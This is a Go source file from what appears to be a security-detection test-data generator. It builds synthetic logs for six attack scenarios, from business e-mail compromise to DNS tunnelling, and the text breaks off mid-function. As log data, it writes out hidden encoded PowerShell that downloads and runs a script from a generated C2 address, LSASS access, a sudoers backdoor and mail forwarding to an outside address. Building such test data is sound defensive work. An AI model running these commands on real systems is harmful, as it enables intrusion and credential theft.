package gen

import (
	"encoding/base64"
	"slices"
	"strconv"
	"strings"
	"time"
	"unicode/utf16"

	"github.com/vigil-soc/vigil/event"
)

// Scenario describes one attack the generator injects.
type Scenario struct {
	Name        string
	Description string
	Sources     []string // sources its records come from
	Steps       []Step   // in event-time order
	Entities    []EntityRole
	Expected    Outcome

	build func(b *scenarioBuilder)
}

// Step is one stage of a scenario; records carry its Name in Record.Step.
type Step struct {
	Name        string
	Description string
	Behaviours  []string // detections this step alone should raise
}

// EntityRole names an entity a scenario instance involves; the concrete
// values are in Expectation.Entities, in the same order.
type EntityRole struct {
	Kind event.EntityKind
	Role string
}

// Outcome is what a correct pipeline must find for any instance of a
// scenario.
type Outcome struct {
	Behaviours    []string // detection behaviour keywords, union of the steps'
	IncidentKinds []string // correlation kinds expected to tie the steps together
	MinIncidents  int
}

// Scenarios returns the scenarios the generator knows, in injection order.
func Scenarios() []Scenario {
	out := make([]Scenario, len(scenarioDefs))
	for i, s := range scenarioDefs {
		s.Sources = slices.Clone(s.Sources)
		s.Steps = slices.Clone(s.Steps)
		s.Entities = slices.Clone(s.Entities)
		s.Expected.Behaviours = slices.Clone(s.Expected.Behaviours)
		s.Expected.IncidentKinds = slices.Clone(s.Expected.IncidentKinds)
		s.build = nil
		out[i] = s
	}
	return out
}

// scenarioBuilder collects the records and entities of one instance.
type scenarioBuilder struct {
	g        *Generator
	t        *tenant
	start    time.Time
	scenario string
	recs     []Record
	entities []event.Entity
}

// at is the event time of the step d into the scenario, at the
// generator's scenario speed.
func (b *scenarioBuilder) at(d time.Duration) time.Time {
	if s := b.g.cfg.ScenarioSpeedup; s > 1 {
		d = time.Duration(float64(d) / s)
	}
	return b.start.Add(d)
}

func (b *scenarioBuilder) add(step string, rec Record) {
	rec.Scenario, rec.Step = b.scenario, step
	b.recs = append(b.recs, rec)
}

func (b *scenarioBuilder) entity(kind event.EntityKind, value string) {
	b.entities = append(b.entities, event.Entity{Kind: kind, Value: value})
}

// jitter returns a duration in [lo, hi] seconds with millisecond resolution.
func (b *scenarioBuilder) jitter(lo, hi float64) time.Duration {
	return time.Duration((lo + b.g.r.float()*(hi-lo)) * float64(time.Second)).Round(time.Millisecond)
}

// distinctUsers picks n distinct users of the tenant, skipping the listed
// indexes.
func distinctUsers(r *rng, t *tenant, n int, from, to int) []*user {
	idx := map[int]bool{}
	var out []*user
	for len(out) < n {
		i := from + r.intn(to-from)
		if idx[i] {
			continue
		}
		idx[i] = true
		out = append(out, &t.users[i])
	}
	return out
}

func behaviours(steps []Step) []string {
	var out []string
	for _, s := range steps {
		for _, b := range s.Behaviours {
			if !slices.Contains(out, b) {
				out = append(out, b)
			}
		}
	}
	return out
}

func def(s Scenario) Scenario {
	s.Expected.Behaviours = behaviours(s.Steps)
	return s
}

var scenarioDefs = []Scenario{
	def(Scenario{
		Name:        "o365_bec",
		Description: "Business e-mail compromise: a password spray from one foreign address, a risky single-factor sign-in of one sprayed user from it, an inbox rule and mailbox forwarding to an external free-mail address, then mass file downloads from SharePoint and OneDrive.",
		Sources:     []string{SourceSignIn, SourceO365},
		Steps: []Step{
			{"password_spray", "24-40 Entra sign-in failures 50126 for distinct users from the attacker address within ~2 minutes, each mirrored by an O365 UserLoginFailed", []string{"password_spray"}},
			{"risky_signin", "successful single-factor, high-risk Entra sign-in of one sprayed user from the attacker address and country (+ O365 UserLoggedIn)", []string{"risky_signin"}},
			{"inbox_rule", "Exchange New-InboxRule by the victim forwarding to an external address (ForwardTo), marking read and stopping rule processing", []string{"inbox_forwarding_external"}},
			{"mailbox_forwarding", "Exchange Set-Mailbox ForwardingSmtpAddress to the same external address", []string{"mailbox_forwarding_external"}},
			{"mass_download", "40-70 FileDownloaded by the victim from the attacker address within ~3 minutes", []string{"mass_file_download"}},
		},
		Entities: []EntityRole{
			{event.EntityUser, "victim (UPN)"}, {event.EntityIP, "attacker address"},
			{event.EntityMailbox, "victim mailbox (UPN)"}, {event.EntityDomain, "external forwarding domain"},
		},
		Expected: Outcome{IncidentKinds: []string{"sequence", "threshold"}, MinIncidents: 1},
		build:    buildBEC,
	}),
	def(Scenario{
		Name:        "ssh_bruteforce_sudo",
		Description: "SSH brute force against an exposed Linux host from one address (root, admin, invalid and real users), a successful password login of a real user, a root shell through sudo, a backdoor user added to the sudo group and given a sudoers file.",
		Sources:     []string{SourceSyslog},
		Steps: []Step{
			{"bruteforce", "22-35 sshd 'Failed password' (some 'Invalid user' / 'for invalid user') from the attacker address within ~90 s", []string{"ssh_bruteforce"}},
			{"ssh_login", "sshd 'Accepted password' for the victim from the attacker address + pam session opened", []string{"ssh_login_after_bruteforce"}},
			{"sudo_shell", "sudo by the victim: COMMAND=/bin/bash", []string{"sudo_shell"}},
			{"backdoor_user", "useradd new group / new user (the backdoor), usermod add to group 'sudo'", []string{"user_created"}},
			{"sudoers_edit", "sudo COMMAND=/usr/bin/tee -a /etc/sudoers.d/<backdoor>", []string{"sudoers_modified"}},
		},
		Entities: []EntityRole{
			{event.EntityIP, "attacker address"}, {event.EntityUser, "victim account"},
			{event.EntityHost, "target host"}, {event.EntityUser, "backdoor account"},
		},
		Expected: Outcome{IncidentKinds: []string{"sequence", "threshold"}, MinIncidents: 1},
		build:    buildSSH,
	}),
	def(Scenario{
		Name:        "aws_credential_misuse",
		Description: "Stolen AWS console password: failed then successful ConsoleLogin without MFA from a foreign address, IAM reconnaissance, an access key created for another IAM user, SSH opened to the world on a security group, CloudTrail stopped and deleted.",
		Sources:     []string{SourceCloudTrail},
		Steps: []Step{
			{"console_login", "2 ConsoleLogin Failure then ConsoleLogin Success with MFAUsed=No from the attacker address", []string{"console_login_without_mfa"}},
			{"recon", "ListUsers, GetAccountAuthorizationDetails, DescribeSecurityGroups from the attacker address", nil},
			{"create_access_key", "iam CreateAccessKey with requestParameters.userName = another IAM user", []string{"iam_access_key_created_for_other_user"}},
			{"open_security_group", "ec2 AuthorizeSecurityGroupIngress tcp/22 from 0.0.0.0/0", []string{"security_group_open_to_world"}},
			{"stop_logging", "cloudtrail StopLogging of the organisation trail", []string{"stop_logging"}},
			{"delete_trail", "cloudtrail DeleteTrail of the same trail", []string{"delete_trail"}},
		},
		Entities: []EntityRole{
			{event.EntityUser, "victim IAM user name"}, {event.EntityIP, "attacker address"},
			{event.EntityCloudAccount, "AWS account id"}, {event.EntityUser, "IAM user given a new key"},
		},
		Expected: Outcome{IncidentKinds: []string{"sequence"}, MinIncidents: 1},
		build:    buildAWS,
	}),
	def(Scenario{
		Name:        "windows_credential_dumping",
		Description: "A macro starts an encoded PowerShell download cradle on a workstation, PowerShell opens LSASS, the dumped admin credentials are used from the workstation to log on to a server over the network and install PsExec's service, and the server's Security log is cleared.",
		Sources:     []string{SourceWindows},
		Steps: []Step{
			{"encoded_powershell", "Sysmon 1 + Security 4688: WINWORD.EXE -> powershell.exe -nop -w hidden -enc <download cradle>; Sysmon 3 to the C2 address on port 80", []string{"encoded_powershell"}},
			{"lsass_access", "Sysmon 10: powershell.exe opens C:\\Windows\\system32\\lsass.exe with GrantedAccess 0x1010", []string{"lsass_access"}},
			{"lateral_logon", "on the server: 4624 LogonType 3 NTLM for the admin from the workstation's address, 5145 ADMIN$ PSEXESVC.exe write", []string{"lateral_movement"}},
			{"psexec_service", "on the server: 7045 PSEXESVC (%SystemRoot%\\PSEXESVC.exe, LocalSystem) + Sysmon 1 PSEXESVC.exe -> cmd.exe", []string{"psexec_service_install"}},
			{"log_cleared", "on the server: Security 1102 by the admin", []string{"security_log_cleared"}},
		},
		Entities: []EntityRole{
			{event.EntityHost, "first host (FQDN)"}, {event.EntityHost, "second host (FQDN)"},
			{event.EntityUser, "user of the first host"}, {event.EntityUser, "admin whose credentials were used"},
			{event.EntityIP, "C2 address"},
		},
		Expected: Outcome{IncidentKinds: []string{"sequence", "entity"}, MinIncidents: 1},
		build:    buildWindows,
	}),
	def(Scenario{
		Name:        "okta_mfa_fatigue",
		Description: "MFA fatigue against an Okta administrator: a burst of Okta Verify pushes the user denies, one accepted push and a session from the attacker, an admin role granted to another user and all MFA factors of a third user reset.",
		Sources:     []string{SourceOkta},
		Steps: []Step{
			{"push_spam", "10-18 pairs of system.push.send_factor_verify_push + user.mfa.okta_verify.deny_push within ~6 minutes from the attacker address", []string{"mfa_push_fatigue"}},
			{"push_accepted", "push sent, user.authentication.auth_via_mfa SUCCESS (OKTA_VERIFY_PUSH), user.session.start SUCCESS from the attacker address", []string{"mfa_fatigue_accepted"}},
			{"privilege_grant", "user.account.privilege.grant by the victim to another user (Super administrator)", []string{"admin_role_granted"}},
			{"factor_reset", "user.mfa.factor.reset_all by the victim for a third user", []string{"mfa_factor_reset"}},
		},
		Entities: []EntityRole{
			{event.EntityUser, "victim (login)"}, {event.EntityIP, "attacker address"},
			{event.EntityUser, "user granted admin"}, {event.EntityUser, "user whose factors were reset"},
		},
		Expected: Outcome{IncidentKinds: []string{"sequence", "threshold"}, MinIncidents: 1},
		build:    buildOkta,
	}),
	def(Scenario{
		Name:        "zeek_dns_tunnel",
		Description: "DNS tunnelling and beaconing from one workstation: many long random-label TXT and A queries under one domain, and a connection to a bad address every minute.",
		Sources:     []string{SourceZeek},
		Steps: []Step{
			{"dns_tunnel", "120-180 dns queries of 40-60 character base32 labels under one domain (60% TXT) within ~4 minutes, a third with their conn record", []string{"dns_tunneling"}},
			{"beacon", "10 tcp/443 conns to the bad address at 60 s ± 2 s intervals, with an ssl record naming cdn.<domain>", []string{"c2_beaconing"}},
		},
		Entities: []EntityRole{
			{event.EntityIP, "workstation address"}, {event.EntityDomain, "tunnel domain"}, {event.EntityIP, "beacon address"},
		},
		Expected: Outcome{IncidentKinds: []string{"entity"}, MinIncidents: 1},
		build:    buildDNSTunnel,
	}),
}

var freeMail = []string{"gmail.com", "outlook.com", "proton.me", "yandex.com", "gmx.com", "mail.com"}

func buildBEC(b *scenarioBuilder) {
	g, t, r := b.g, b.t, &b.g.r
	ip, origin := attackerIP(r)
	sprayed := distinctUsers(r, t, r.rangeInt(24, 40), 8, len(t.users))
	victim := sprayed[r.intn(len(sprayed))]
	fwdDomain := pick(r, freeMail)
	fwd := r.chars("abcdefghijklmnopqrstuvwxyz", 6) + "." + strconv.Itoa(r.rangeInt(10, 99)) + "@" + fwdDomain
	b.entity(event.EntityUser, victim.upn)
	b.entity(event.EntityIP, ip)
	b.entity(event.EntityMailbox, victim.upn)
	b.entity(event.EntityDomain, fwdDomain)

	sprayUA := "python-requests/2.31.0"
	d := time.Duration(0)
	for _, u := range sprayed {
		d += b.jitter(2, 5)
		s := signIn{ts: b.at(d), u: u, ip: ip, loc: &origin.loc, app: "Office 365 Exchange Online", appID: signInApps[0][1],
			clientApp: "Other clients", ua: sprayUA, errorCode: 50126, failure: signInErrors[50126], interactive: false,
			risk: "none", riskState: "none", caStatus: "notApplied", authReq: "singleFactorAuthentication", os: "", browser: "Python Requests 2.31"}
		b.add("password_spray", g.signIn(t, &s))
		b.add("password_spray", g.o365Login(t, b.at(d+b.jitter(0.5, 2)), u, ip, sprayUA, false, "InvalidUserNameOrPassword"))
	}
	d += b.jitter(60, 120)
	ua := signInUAs[0]
	s := signIn{ts: b.at(d), u: victim, ip: ip, loc: &origin.loc, app: "OfficeHome", appID: signInApps[3][1],
		clientApp: "Browser", ua: ua.ua, os: ua.os, browser: ua.browser, interactive: true,
		risk: "high", riskState: "atRisk", caStatus: "notApplied", authReq: "singleFactorAuthentication"}
	b.add("risky_signin", g.signIn(t, &s))
	b.add("risky_signin", g.o365Login(t, b.at(d+b.jitter(1, 3)), victim, ip, ua.ua, true, ""))

	d += b.jitter(120, 240)
	rule := pick(r, []string{".", "..", "RSS Feeds Sync", "Archive", "Notes"})
	b.add("inbox_rule", g.o365Cmdlet(t, b.at(d), victim, ip, "New-InboxRule", victim.upn+"\\"+rule, [][2]string{
		{"AlwaysDeleteOutlookRulesBlob", "False"}, {"Force", "False"}, {"Name", rule},
		{"ForwardTo", fwd}, {"SubjectOrBodyContainsWords", "invoice;payment;wire;bank;remittance"},
		{"MarkAsRead", "True"}, {"StopProcessingRules", "True"},
	}))
	d += b.jitter(30, 90)
	b.add("mailbox_forwarding", g.o365Cmdlet(t, b.at(d), victim, ip, "Set-Mailbox", victim.upn, [][2]string{
		{"Identity", victim.upn}, {"ForwardingSmtpAddress", "smtp:" + fwd}, {"DeliverToMailboxAndForward", "False"},
	}))
	d += b.jitter(60, 120)
	n := r.rangeInt(40, 70)
	for i := 0; i < n; i++ {
		d += b.jitter(1, 4)
		site := ""
		if r.chance(0.7) {
			site = pick(r, t.sites)
		}
		b.add("mass_download", g.o365File(t, b.at(d), "FileDownloaded", victim, ip, ua.ua, site, i))
	}
}

func buildSSH(b *scenarioBuilder) {
	g, t, r := b.g, b.t, &b.g.r
	ip, _ := attackerIP(r)
	h := &t.linux[pick(r, []int{0, 6, 7})]
	victim := &t.users[8+r.intn(len(t.users)-8)]
	backdoor := pick(r, []string{"svc-", "sys", "backup-", "support"}) + r.chars("abcdefghijklmnopqrstuvwxyz", 4)
	b.entity(event.EntityIP, ip)
	b.entity(event.EntityUser, victim.sam)
	b.entity(event.EntityHost, h.name)
	b.entity(event.EntityUser, backdoor)

	port := func() string { return strconv.Itoa(r.rangeInt(32768, 60999)) }
	d := time.Duration(0)
	n := r.rangeInt(22, 35)
	for i := 0; i < n; i++ {
		d += b.jitter(1, 3)
		ts := b.at(d)
		pid := g.nextPID(h)
		switch i % 4 {
		case 0, 2:
			b.add("bruteforce", g.syslogLine(t, h, ts, priAuthInfo, "sshd", pid, "Failed password for root from "+ip+" port "+port()+" ssh2", ip))
		case 1:
			u := pick(r, []string{"admin", "test", "oracle", "ubuntu1", "git", "postgres", "user"})
			p := port()
			b.add("bruteforce", g.syslogLine(t, h, ts, priAuthInfo, "sshd", pid, "Invalid user "+u+" from "+ip+" port "+p, ip))
			b.add("bruteforce", g.syslogLine(t, h, ts.Add(b.jitter(0.5, 1.5)), priAuthInfo, "sshd", pid, "Failed password for invalid user "+u+" from "+ip+" port "+p+" ssh2", ip))
		default:
			b.add("bruteforce", g.syslogLine(t, h, ts, priAuthInfo, "sshd", pid, "Failed password for "+victim.sam+" from "+ip+" port "+port()+" ssh2", ip))
		}
	}
	d += b.jitter(5, 20)
	pid := g.nextPID(h)
	b.add("ssh_login", g.syslogLine(t, h, b.at(d), priAuthInfo, "sshd", pid, "Accepted password for "+victim.sam+" from "+ip+" port "+port()+" ssh2", victim.sam))
	b.add("ssh_login", g.syslogLine(t, h, b.at(d+b.jitter(0.01, 0.2)), priAuthprivInfo, "sshd", pid, "pam_unix(sshd:session): session opened for user "+victim.sam+"(uid=1004) by (uid=0)", victim.sam))
	d += b.jitter(20, 60)
	sudoPrefix := "  " + victim.sam + " : TTY=pts/1 ; PWD=/home/" + victim.sam + " ; USER=root ; COMMAND="
	b.add("sudo_shell", g.syslogLine(t, h, b.at(d), priAuthprivNote, "sudo", 0, sudoPrefix+"/bin/bash", victim.sam))
	b.add("sudo_shell", g.syslogLine(t, h, b.at(d+b.jitter(0.01, 0.1)), priAuthprivInfo, "sudo", 0, "pam_unix(sudo:session): session opened for user root(uid=0) by "+victim.sam+"(uid=1004)", victim.sam))
	d += b.jitter(30, 90)
	uid := strconv.Itoa(r.rangeInt(1005, 1100))
	pid = g.nextPID(h)
	b.add("backdoor_user", g.syslogLine(t, h, b.at(d), priAuthprivInfo, "groupadd", pid, "group added to /etc/group: name="+backdoor+", GID="+uid, backdoor))
	pid = g.nextPID(h)
	b.add("backdoor_user", g.syslogLine(t, h, b.at(d+time.Millisecond*20), priAuthprivInfo, "useradd", pid, "new group: name="+backdoor+", GID="+uid, backdoor))
	b.add("backdoor_user", g.syslogLine(t, h, b.at(d+time.Millisecond*40), priAuthprivInfo, "useradd", pid,
		"new user: name="+backdoor+", UID="+uid+", GID="+uid+", home=/home/"+backdoor+", shell=/bin/bash, from=/dev/pts/1", backdoor))
	d += b.jitter(10, 30)
	pid = g.nextPID(h)
	b.add("backdoor_user", g.syslogLine(t, h, b.at(d), priAuthprivInfo, "usermod", pid, "add '"+backdoor+"' to group 'sudo'", backdoor))
	b.add("backdoor_user", g.syslogLine(t, h, b.at(d+time.Millisecond*5), priAuthprivInfo, "usermod", pid, "add '"+backdoor+"' to shadow group 'sudo'", backdoor))
	d += b.jitter(10, 40)
	b.add("sudoers_edit", g.syslogLine(t, h, b.at(d), priAuthprivNote, "sudo", 0, sudoPrefix+"/usr/bin/tee -a /etc/sudoers.d/90-"+backdoor, victim.sam))
}

func buildAWS(b *scenarioBuilder) {
	g, t, r := b.g, b.t, &b.g.r
	ip, _ := attackerIP(r)
	users := distinctUsers(r, t, 2, 0, 25)
	victim, other := users[0], users[1]
	b.entity(event.EntityUser, iamName(t, victim))
	b.entity(event.EntityIP, ip)
	b.entity(event.EntityCloudAccount, t.awsAccount)
	b.entity(event.EntityUser, iamName(t, other))
	ua := browserUAs[0]
	d := time.Duration(0)
	login := func(ok bool) ctEvent {
		ev := ctEvent{ts: b.at(d), region: "us-east-1", ip: ip, ua: ua, source: "signin.amazonaws.com", name: "ConsoleLogin",
			eventType: "AwsConsoleSignIn", id: iamUserIdentity(t, victim, false, b.at(d))}
		ev.id.accessKeyID = ""
		ev.extra = `{"LoginTo":"https://console.aws.amazon.com/console/home?state=hashArgs%23&isauthcode=true","MobileVersion":"No","MFAUsed":"No"}`
		if ok {
			ev.resp = `{"ConsoleLogin":"Success"}`
		} else {
			ev.resp = `{"ConsoleLogin":"Failure"}`
			ev.errorMessage = "Failed authentication"
		}
		return ev
	}
	for i := 0; i < 2; i++ {
		ev := login(false)
		b.add("console_login", g.cloudTrail(t, &ev, victim.upn))
		d += b.jitter(5, 20)
	}
	ev := login(true)
	b.add("console_login", g.cloudTrail(t, &ev, victim.upn))
	sessionStart := b.at(d)
	id := iamUserIdentity(t, victim, false, sessionStart)
	call := func(step, source, name, req, resp string, readOnly bool) {
		d += b.jitter(8, 40)
		ev := ctEvent{ts: b.at(d), region: "us-east-1", ip: ip, ua: "console.amazonaws.com", source: source, name: name,
			id: id, req: req, resp: resp, readOnly: readOnly}
		if source == "ec2.amazonaws.com" {
			ev.region = "us-east-2"
			ev.ua = "console.ec2.amazonaws.com"
		}
		b.add(step, g.cloudTrail(t, &ev, victim.upn))
	}
	call("recon", "iam.amazonaws.com", "ListUsers", ``, ``, true)
	call("recon", "iam.amazonaws.com", "GetAccountAuthorizationDetails", `{"filter":["User","Role","Group","LocalManagedPolicy"]}`, ``, true)
	call("recon", "ec2.amazonaws.com", "DescribeSecurityGroups", `{"securityGroupSet":{},"securityGroupIdSet":{},"filterSet":{}}`, ``, true)
	key := "AKIA" + r.chars("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
	call("create_access_key", "iam.amazonaws.com", "CreateAccessKey", `{"userName":"`+iamName(t, other)+`"}`,
		`{"accessKey":{"userName":"`+iamName(t, other)+`","accessKeyId":"`+key+`","status":"Active","createDate":"`+b.at(d).Format("Jan 2, 2006, 3:04:05 PM")+`"}}`, false)
	sg := "sg-0" + r.chars(hexLower, 16)
	call("open_security_group", "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress",
		`{"groupId":"`+sg+`","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"groups":{},"ipRanges":{"items":[{"cidrIp":"0.0.0.0/0"}]},"ipv6Ranges":{},"prefixListIds":{}}]}}`,
		`{"requestId":"`+r.uuid()+`","_return":true,"securityGroupRuleSet":{"items":[{"groupOwnerId":"`+t.awsAccount+`","groupId":"`+sg+`","securityGroupRuleId":"sgr-0`+r.chars(hexLower, 16)+`","isEgress":false,"ipProtocol":"tcp","fromPort":22,"toPort":22,"cidrIpv4":"0.0.0.0/0"}]}}`, false)
	trail := `arn:aws:cloudtrail:us-east-1:` + t.awsAccount + `:trail/` + t.name + `-org-trail`
	call("stop_logging", "cloudtrail.amazonaws.com", "StopLogging", `{"name":"`+trail+`"}`, ``, false)
	call("delete_trail", "cloudtrail.amazonaws.com", "DeleteTrail", `{"name":"`+trail+`"}`, ``, false)
}

func iamName(t *tenant, u *user) string { return u.upn[:len(u.upn)-len(t.domain)-1] }

func buildWindows(b *scenarioBuilder) {
	g, t, r := b.g, b.t, &b.g.r
	victim := &t.users[8+r.intn(len(t.users)-8)]
	admin := &t.users[r.intn(8)]
	a := &t.hosts[victim.ws]
	srv := &t.hosts[2+r.intn(3)]
	c2, _ := attackerIP(r)
	b.entity(event.EntityHost, a.fqdn)
	b.entity(event.EntityHost, srv.fqdn)
	b.entity(event.EntityUser, victim.sam)
	b.entity(event.EntityUser, admin.sam)
	b.entity(event.EntityIP, c2)

	script := "IEX (New-Object Net.WebClient).DownloadString('http://" + c2 + "/" + r.chars("abcdefghijklmnopqrstuvwxyz", 6) + ".ps1')"
	u16 := utf16.Encode([]rune(script))
	raw := make([]byte, 0, 2*len(u16))
	for _, c := range u16 {
		raw = append(raw, byte(c), byte(c>>8))
	}
	enc := base64.StdEncoding.EncodeToString(raw)
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	psPID := 2000 + r.intn(9000)
	p := proc{image: ps, cmd: `powershell.exe -nop -w hidden -enc ` + enc,
		parent: `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, parentCmd: `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\` + victim.sam + `\Downloads\Invoice_` + strconv.Itoa(r.rangeInt(1000, 9999)) + `.docm" /o ""`,
		user: victim.sam, domain: t.adDomain, integrity: "Medium", pid: psPID, ppid: 1000 + r.intn(9000),
		company: "Microsoft Corporation", product: "Microsoft® Windows® Operating System", desc: "Windows PowerShell", orig: "PowerShell.EXE"}
	d := time.Duration(0)
	b.add("encoded_powershell", g.sysmon1(t, a, b.at(d), &p))
	b.add("encoded_powershell", g.win4688(t, a, b.at(d+2*time.Millisecond), &p, victim.sid))
	d += b.jitter(1, 4)
	b.add("encoded_powershell", g.sysmon3(t, a, b.at(d), &netConn{image: ps, user: victim.sam, domain: t.adDomain, pid: psPID,
		srcIP: a.ip, srcPort: r.rangeInt(49152, 65535), dstIP: c2, dstHost: "-", dstPort: 80}))
	d += b.jitter(40, 120)
	b.add("lsass_access", g.sysmon10(t, a, b.at(d), ps, psPID, `C:\Windows\system32\lsass.exe`, 600+r.intn(200), "0x1010", t.adDomain+"\\"+victim.sam,
		`C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbgcore.DLL+1aa0c|UNKNOWN(00007FFB1C6E3A1D)`))
	d += b.jitter(90, 180)
	logonID := int64(0x100000 + r.intn(0xffffff))
	b.add("lateral_logon", g.winLogon(t, srv, b.at(d), &logon{id: 4624, user: admin.sam, domain: t.adDomain, sid: admin.sid, logonType: 3,
		ip: a.ip, workstation: a.name, port: r.rangeInt(49152, 65535), process: "NtLmSsp ", authPkg: "NTLM", logonID: logonID}))
	d += b.jitter(0.5, 2)
	b.add("lateral_logon", g.win5145(t, srv, b.at(d), admin, a.ip, "\\\\*\\ADMIN$", "PSEXESVC.exe", "0x2"))
	d += b.jitter(0.5, 2)
	b.add("psexec_service", g.win7045(t, srv, b.at(d), "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`, "demand start", "LocalSystem"))
	d += b.jitter(0.2, 1)
	svcPID := 3000 + r.intn(9000)
	b.add("psexec_service", g.sysmon1(t, srv, b.at(d), &proc{image: `C:\Windows\PSEXESVC.exe`, cmd: `C:\Windows\PSEXESVC.exe`,
		parent: `C:\Windows\System32\services.exe`, parentCmd: `C:\Windows\system32\services.exe`, user: "SYSTEM", domain: "NT AUTHORITY",
		integrity: "System", pid: svcPID, ppid: 640 + r.intn(100), company: "Sysinternals", product: "Sysinternals PsExec", desc: "PsExec Service", orig: "psexesvc.exe"}))
	d += b.jitter(1, 3)
	b.add("psexec_service", g.sysmon1(t, srv, b.at(d), &proc{image: `C:\Windows\System32\cmd.exe`, cmd: `"cmd.exe" /c whoami /all & net group "Domain Admins" /domain`,
		parent: `C:\Windows\PSEXESVC.exe`, parentCmd: `C:\Windows\PSEXESVC.exe`, user: admin.sam, domain: t.adDomain,
		integrity: "High", pid: 3000 + r.intn(9000), ppid: svcPID, company: "Microsoft Corporation", product: "Microsoft® Windows® Operating System", desc: "Windows Command Processor", orig: "Cmd.Exe"}))
	d += b.jitter(60, 180)
	b.add("log_cleared", g.win1102(t, srv, b.at(d), admin))
}

func buildOkta(b *scenarioBuilder) {
	g, t, r := b.g, b.t, &b.g.r
	ip, origin := attackerIP(r)
	victim := &t.users[r.intn(8)]
	others := distinctUsers(r, t, 3, 8, len(t.users))
	granted, reset := others[0], others[1]
	b.entity(event.EntityUser, victim.upn)
	b.entity(event.EntityIP, ip)
	b.entity(event.EntityUser, granted.upn)
	b.entity(event.EntityUser, reset.upn)
	session := "102" + r.chars(alnum, 22)
	base := func(d time.Duration) oktaEvent {
		return oktaEvent{ts: b.at(d), severity: "INFO", result: "SUCCESS", actor: victim, ip: ip, loc: &origin.loc,
			asn: origin.asn, asOrg: origin.asOrg, ua: browserUAs[0], session: session}
	}
	self := [][4]string{{victim.oktaID, "User", victim.upn, victim.display}}
	d := time.Duration(0)
	n := r.rangeInt(10, 18)
	for i := 0; i < n; i++ {
		d += b.jitter(10, 30)
		ev := base(d)
		ev.eventType, ev.message, ev.targets = "system.push.send_factor_verify_push", "A push was sent to a user for verification", self
		b.add("push_spam", g.okta(t, &ev))
		ev = base(d + b.jitter(3, 12))
		ev.eventType, ev.message, ev.severity = "user.mfa.okta_verify.deny_push", "User rejected Okta push verify", "WARN"
		ev.result, ev.reason, ev.targets, ev.factor = "FAILURE", "INVALID_CREDENTIALS", self, "OKTA_VERIFY_PUSH"
		b.add("push_spam", g.okta(t, &ev))
	}
	d += b.jitter(20, 60)
	ev := base(d)
	ev.eventType, ev.message, ev.targets = "system.push.send_factor_verify_push", "A push was sent to a user for verification", self
	b.add("push_accepted", g.okta(t, &ev))
	d += b.jitter(4, 15)
	ev = base(d)
	ev.eventType, ev.legacy, ev.message, ev.factor = "user.authentication.auth_via_mfa", "core.user.factor.attempt_success", "Authentication of user via MFA", "OKTA_VERIFY_PUSH"
	ev.targets = [][4]string{{"pfd" + r.chars(alnum, 17), "AuthenticatorEnrollment", "unknown", "Okta Verify"}}
	b.add("push_accepted", g.okta(t, &ev))
	d += b.jitter(0.5, 2)
	ev = base(d)
	ev.eventType, ev.legacy, ev.message = "user.session.start", "core.user_auth.login_success", "User login to Okta"
	b.add("push_accepted", g.okta(t, &ev))
	d += b.jitter(60, 180)
	ev = base(d)
	ev.eventType, ev.legacy, ev.message = "user.account.privilege.grant", "core.user.admin_privilege.granted", "Grant user privilege"
	ev.targets = [][4]string{{granted.oktaID, "User", granted.upn, granted.display}}
	ev.debug = [][2]string{{"privilegeGranted", "Super administrator"}, {"requestUri", "/api/internal/administrators/" + granted.oktaID}}
	b.add("privilege_grant", g.okta(t, &ev))
	d += b.jitter(30, 120)
	ev = base(d)
	ev.eventType, ev.legacy, ev.message = "user.mfa.factor.reset_all", "core.user.factor.reset_all", "Reset all factors for user"
	ev.targets = [][4]string{{reset.oktaID, "User", reset.upn, reset.display}}
	ev.debug = [][2]string{{"requestUri", "/api/v1/users/" + reset.oktaID + "/lifecycle/reset_factors"}}
	b.add("factor_reset", g.okta(t, &ev))
}

var tunnelTLDs = []string{".xyz", ".top", ".info", ".cc", ".online"}

func buildDNSTunnel(b *scenarioBuilder) {
	g, t, r := b.g, b.t, &b.g.r
	h := &t.hosts[6+r.intn(len(t.hosts)-6)]
	domain := r.chars("abcdefghijklmnopqrstuvwxyz", r.rangeInt(7, 11)) + pick(r, tunnelTLDs)
	bad, _ := attackerIP(r)
	b.entity(event.EntityIP, h.ip)
	b.entity(event.EntityDomain, domain)
	b.entity(event.EntityIP, bad)

	n := r.rangeInt(120, 180)
	d := time.Duration(0)
	var sb strings.Builder
	for i := 0; i < n; i++ {
		d += b.jitter(0.8, 2)
		sb.Reset()
		sb.WriteString(r.chars(base32, r.rangeInt(40, 60)))
		sb.WriteByte('.')
		sb.WriteString(strconv.Itoa(i))
		sb.WriteByte('.')
		sb.WriteString(domain)
		q := sb.String()
		uid := g.zeekUID()
		op := r.rangeInt(49152, 65535)
		if r.chance(0.6) {
			b.add("dns_tunnel", g.zeekDNS(t, b.at(d), uid, h.ip, op, t.resolver(), q, 16, "TXT", "NOERROR",
				[]string{"TXT " + strconv.Itoa(r.rangeInt(60, 200)) + " " + r.chars(alnum, r.rangeInt(60, 180))}, 0))
		} else if r.chance(0.5) {
			b.add("dns_tunnel", g.zeekDNS(t, b.at(d), uid, h.ip, op, t.resolver(), q, 1, "A", "NOERROR", []string{bad}, 0))
		} else {
			b.add("dns_tunnel", g.zeekDNS(t, b.at(d), uid, h.ip, op, t.resolver(), q, 1, "A", "NXDOMAIN", nil, 0))
		}
		if i%3 == 0 {
			b.add("dns_tunnel", g.zeekConn(t, b.at(d), uid, &zconn{oh: h.ip, op: op, rh: t.resolver(), rp: 53, proto: "udp", service: "dns",
				dur: 0.02 + r.float()*0.1, ob: int64(len(q) + 17), rb: int64(80 + r.intn(200)), state: "SF", history: "Dd"}))
		}
	}
	ja3 := r.chars(hexLower, 32)
	d = 0
	for i := 0; i < 10; i++ {
		d += 58*time.Second + b.jitter(0, 4)
		uid := g.zeekUID()
		op := r.rangeInt(49152, 65535)
		b.add("beacon", g.zeekConn(t, b.at(d), uid, &zconn{oh: h.ip, op: op, rh: bad, rp: 443, proto: "tcp", service: "ssl",
